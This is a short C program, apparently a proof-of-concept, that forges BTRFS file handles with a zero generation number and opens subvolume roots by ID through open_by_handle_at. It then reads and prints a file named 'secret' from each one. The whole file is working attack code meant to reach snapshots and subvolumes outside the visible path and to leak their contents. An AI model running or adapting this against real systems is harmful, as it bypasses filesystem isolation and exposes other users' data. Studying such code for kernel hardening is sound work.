/* Opens the roots of subvolumes of BTRFS by their number, as a file handle, through the mount DIR:
 *     snapshot_handles DIR ID...
 * A handle without a generation is one of every generation: nothing has to be guessed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define FILEID_BTRFS_WITHOUT_PARENT 0x4d

int main(int argc, char **argv) {
    struct file_handle *h = calloc(1, sizeof *h + MAX_HANDLE_SZ);
    int mount = open(argv[1], O_RDONLY | O_DIRECTORY);
    for (int i = 2; i < argc; i++) {
        uint64_t words[2] = {256, strtoull(argv[i], 0, 10)};
        uint32_t generation = 0;
        h->handle_type = FILEID_BTRFS_WITHOUT_PARENT;
        h->handle_bytes = 20;
        memcpy(h->f_handle, words, sizeof words);
        memcpy(h->f_handle + 16, &generation, sizeof generation);
        int fd = open_by_handle_at(mount, h, O_RDONLY | O_DIRECTORY);
        if (fd < 0) {
            printf("tried %s: %s\n", argv[i], strerror(errno));
            continue;
        }
        char content[64];
        int file = openat(fd, "secret", O_RDONLY);
        ssize_t n = file < 0 ? 0 : read(file, content, sizeof content - 1);
        content[n < 0 ? 0 : n] = 0;
        printf("opened %s: %s\n", argv[i], content);
    }
    return 0;
}
